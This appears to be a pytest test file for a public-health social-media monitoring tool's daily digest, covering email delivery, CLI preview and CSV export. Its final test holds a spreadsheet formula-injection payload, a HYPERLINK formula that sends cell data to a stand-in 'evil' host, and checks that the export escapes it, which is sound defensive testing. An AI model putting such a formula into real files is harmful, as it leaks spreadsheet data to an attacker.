"""The daily digest: rendered from named queries, sent once at the set local time as an HTML email with a plain-text
part, an inline chart and a CSV; and previewed with `civicradar digest` with or without a running engine."""

import csv
import email
import io
from datetime import date, datetime, timedelta

import pandas as pd
import pytest
from aiosmtpd.controller import Controller

import jobs
import settings
from alerts import digest, engine, notify
from alerts.detect import run_pass
from collectors.base import Batch, Post
from helpers import free_port
from runner import Runner
from storage import incident_actions
from storage.db import Database
from storage.runs import RunLog
from storage.service import Service, create_app

DAY = date(2026, 11, 3)  # the digest of Tue 3 Nov 08:00 (Chicago, CST) covers Mon 08:00 .. Tue 08:00
SPIKE = datetime(2026, 11, 2, 21, 30)  # Mon 3:30 pm in Chicago
TEXT = "The county is hiding the real numbers from the fairgrounds testing site, share before it is deleted"


def config(tmp_path, **more: object) -> settings.Settings:
    data = {"agency": "Harbor County Public Health", "timezone": "America/Chicago",
            "digest": {"enabled": True, "recipients": ["lead@county.example"], "time": "08:00:00"},
            "smtp": {"host": "127.0.0.1", "starttls": False, "sender": "radar@county.example"}, **more}
    return settings.parse(data, tmp_path / "settings.toml")


def day_of_posts(db: Database) -> None:
    """Quiet hours from Sunday, then copies of one text from 25 accounts in 12 minutes on Monday afternoon."""
    start = datetime(2026, 11, 1, 14, 0)
    posts = [Post("bluesky", f"b{i}", f"clinic opening hours update {i}", start + timedelta(minutes=20 * i),
                  author_id=f"res{i % 50}", watches=("testing and care",)) for i in range(3 * 24 * 3)]
    posts += [Post("x", f"c{i}", TEXT, SPIKE + timedelta(seconds=30 * i), author_id=f"copy{i}") for i in range(25)]
    db.write_batch("test", Batch(posts, None))


@pytest.fixture
def day_db(tmp_path):
    db = Database(tmp_path / "radar.duckdb")
    day_of_posts(db)
    s = config(tmp_path)
    now = SPIKE - timedelta(minutes=30)
    while now <= SPIKE + timedelta(hours=2):
        run_pass(db, s, now, lambda: SPIKE)
        now += timedelta(minutes=15)
    incident_id = db.reader().execute("SELECT min(incident_id) FROM incidents").fetchall()[0][0]
    db.write(lambda con: incident_actions.transition(con, "ann", incident_id, "acknowledged",
                                                     SPIKE + timedelta(minutes=12)))
    db.write(lambda con: incident_actions.transition(con, "ann", incident_id, "resolved",
                                                     SPIKE + timedelta(minutes=95), note="Posted the real numbers"))
    yield db, s
    db.close()


def test_digest_explains_the_day(day_db):
    db, s = day_db
    built = digest.build(engine.database_queries(db), s, DAY)
    assert (built.since, built.until) == (datetime(2026, 11, 2, 14, 0), datetime(2026, 11, 3, 14, 0))
    assert built.subject == ("Harbor County Public Health: daily digest to Tue 3 Nov, 8:00 am — 1 incident (1 high), "
                             "0 still open; 3 alerts")
    text = built.text
    assert "24 hours from Mon 2 Nov, 8:00 am to Tue 3 Nov, 8:00 am (America/Chicago)" in text
    assert "- 1 incident (1 high), 0 still open; 3 alerts." in text and "posts (" in text
    assert "Team response: 1 of 1 incidents acknowledged, median 12 min after they opened; 1 resolved, median " \
           "1 h 35 min. Targets: acknowledged within target: 100% (1 of 1); first response within target: 0% " \
           "(0 of 1)." in text  # high: acknowledge in 15 min, respond in 2 h (none recorded)
    incident = text.split("INCIDENTS")[1].split("TOP NARRATIVES")[0]
    assert incident.startswith("\n[HIGH] Incident #1 Mon 2 Nov, 3:35 pm - Possible coordinated posting")
    assert [line.split("]")[0] for line in incident.splitlines() if line.startswith("    - alert")] == [
        "    - alert #1 Mon 2 Nov, 3:35 pm [high", "    - alert #2 Mon 2 Nov, 3:40 pm [high",
        "    - alert #3 Mon 2 Nov, 3:40 pm [medium"]  # the alerts beneath their incident
    assert "25 different accounts posted the same text" in text and "Resolution: Posted the real numbers" in text
    assert "Emerging narrative" in text.split("TOP NARRATIVES")[1] and "coordination: 100 % of 1 judged" in text
    assert 'src="cid:trend-chart@civicradar"' in built.html and "&lt;" not in built.subject
    assert built.chart.startswith(b"\x89PNG") and "data:image/png;base64," in built.preview_html()
    rows = list(csv.DictReader(io.StringIO(built.csv)))
    assert len(rows) == 3 and {r["kind"] for r in rows} == {"coordination", "narrative", "volume_spike"}
    assert {r["incident_id"] for r in rows} == {"1"}
    assert "28 posts in the hour to Mon 2 Nov, 4:30 pm, 5.6x the usual 3 for 4:30 pm (the same hour the day before; " \
           "a quiet series, counted as at least 5)" in text
    assert rows[0]["minutes_to_acknowledge"] in ("12.0", "")


class Sink:
    def __init__(self) -> None:
        self.messages: list[bytes] = []

    async def handle_DATA(self, server, session, envelope) -> str:
        self.messages.append(envelope.content)
        return "250 OK"


def test_digest_is_sent_once_at_the_local_time_as_html_with_chart_and_csv(day_db, tmp_path):
    db, _ = day_db
    sink, port = Sink(), free_port()
    controller = Controller(sink, hostname="127.0.0.1", port=port)
    controller.start()
    try:
        s = config(tmp_path, smtp={"host": "127.0.0.1", "port": port, "starttls": False, "sender": "r@c.example"})
        run = Runner(RunLog(db)).run
        assert run(engine.digest_job(db, s, lambda: datetime(2026, 11, 3, 13, 59))) is not None  # Monday's is due
        assert run(engine.digest_job(db, s, lambda: datetime(2026, 11, 3, 13, 59, 30))) is None  # queued already
        assert run(engine.digest_job(db, s, lambda: datetime(2026, 11, 3, 14, 0))).details["day"] == "2026-11-03"
        assert run(engine.digest_job(db, s, lambda: datetime(2026, 11, 3, 20, 0))) is None
        assert notify.send_due(db, s).sent == 2 and notify.send_due(db, s).sent == 0
    finally:
        controller.stop()
    message = email.message_from_bytes(sink.messages[-1])
    assert message["To"] == "lead@county.example" and "daily digest to Tue 3 Nov, 8:00 am" in message["Subject"]
    kinds = [part.get_content_type() for part in message.walk()]
    assert kinds == ["multipart/mixed", "multipart/alternative", "text/plain", "multipart/related", "text/html",
                     "image/png", "text/csv"]  # the HTML alternative carries its image; the CSV is attached
    image = next(p for p in message.walk() if p.get_content_type() == "image/png")
    assert image["Content-ID"] == "<trend-chart@civicradar>" and image.get_payload(decode=True).startswith(b"\x89PNG")
    attachment = next(p for p in message.walk() if p.get_content_type() == "text/csv")
    assert attachment.get_filename() == "alerts-2026-11-03.csv"


def settings_file(tmp_path, db_path, port: int) -> str:
    path = tmp_path / "cli.toml"
    path.write_text(f'timezone = "America/Chicago"\n[storage]\npath = "{db_path}"\n'
                    f'[server]\nport = {port}\ntoken = {{ env = "CR_DIGEST_TOKEN" }}\n', encoding="utf-8")
    return str(path)


def test_cli_previews_from_the_file_when_no_engine_runs(day_db, tmp_path, capsys, monkeypatch):
    db, _ = day_db
    path = db.path
    db.close()
    monkeypatch.setenv("CR_DIGEST_TOKEN", "t0ken-for-tests")
    out = tmp_path / "digest.html"
    code = jobs.main(["--settings", settings_file(tmp_path, path, free_port()), "digest", "--date", "2026-11-03",
                      "--to", str(out)])
    printed = capsys.readouterr().out
    assert code == 0 and "(engine not running; read" in printed and "IN ONE MINUTE" in printed
    assert "1 incident (1 high), 0 still open; 3 alerts" in printed
    assert "data:image/png;base64," in out.read_text() and out.with_suffix(".csv").exists()


def test_cli_previews_through_the_service_when_an_engine_holds_the_file(day_db, tmp_path, capsys, monkeypatch):
    db, _ = day_db
    token, port = "t0ken-for-tests", free_port()
    app = create_app(db, token, lambda: (datetime(2026, 11, 3, 13, 0), True))  # Tue 7:00 am in Chicago
    server = Service(app, "127.0.0.1", port)
    server.start()
    try:
        monkeypatch.setenv("CR_DIGEST_TOKEN", token)
        code = jobs.main(["--settings", settings_file(tmp_path, db.path, port), "digest"])
    finally:
        server.stop()
    printed = capsys.readouterr().out
    assert code == 0 and f"(engine running, service at http://127.0.0.1:{port}; the next digest, so far)" in printed
    assert "daily digest to Tue 3 Nov, 8:00 am" in printed  # by default, the digest whose window holds the clock
    assert "25 different accounts posted the same text" in printed


def test_digest_csv_is_formula_safe_with_crlf_rows():
    """Alert titles and explanations quote public posts: a formula in one stays text, a lone CR stays in its cell."""
    alerts = pd.DataFrame({"alert_id": [7], "kind": ["narrative"], "title": ['=HYPERLINK("http://evil/?"&A1,"x")'],
                           "explanation": ["hi\r@SUM(A1)"], "minutes_to_acknowledge": [12.0]})
    members = pd.DataFrame({"alert_id": [7], "incident_id": [3]})
    text = digest._csv(alerts, members)
    assert text.endswith("\r\n") and '"\'=HYPERLINK(""http://evil/?""&A1,""x"")"' in text
    assert "\"hi\r@SUM(A1)\"" in text  # quoted: a spreadsheet keeps it in one cell (inner text starts with 'hi')
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows[0]["title"].startswith("'=") and rows[0]["incident_id"] == "3"
    assert rows[0]["minutes_to_acknowledge"] == "12.0"
